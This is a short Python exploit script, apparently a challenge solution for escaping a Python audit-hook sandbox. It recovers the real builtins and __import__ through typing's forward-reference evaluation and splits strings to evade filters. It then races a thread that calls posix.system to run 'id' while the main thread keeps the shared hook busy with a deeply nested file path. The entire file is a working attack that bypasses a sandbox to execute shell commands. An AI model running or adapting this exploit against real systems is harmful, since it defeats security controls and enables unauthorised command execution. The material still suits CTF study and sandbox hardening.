# busy: threads start with no audit event in 3.11, and the hook's busy flag is shared by all threads: a thread's events pass while the main thread is inside the hook
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import time
th = imp("_thr" + "ead")
p = imp("pos" + "ix")
done = []
def worker():
    end = time.time() + 8
    while not done and time.time() < end:
        try:
            p.system("echo PWN''ED from a thread while the hook was busy; id")
            done.append(1)
        except Exception:
            pass
th.start_new_thread(worker, ())
deep = "/tmp/" + "./" * 3000 + "rt_race"  # realpath walks every component, releasing the GIL
end = time.time() + 8
while not done and time.time() < end:
    try:
        open(deep, "w").close()
    except Exception:
        pass
time.sleep(0.2)
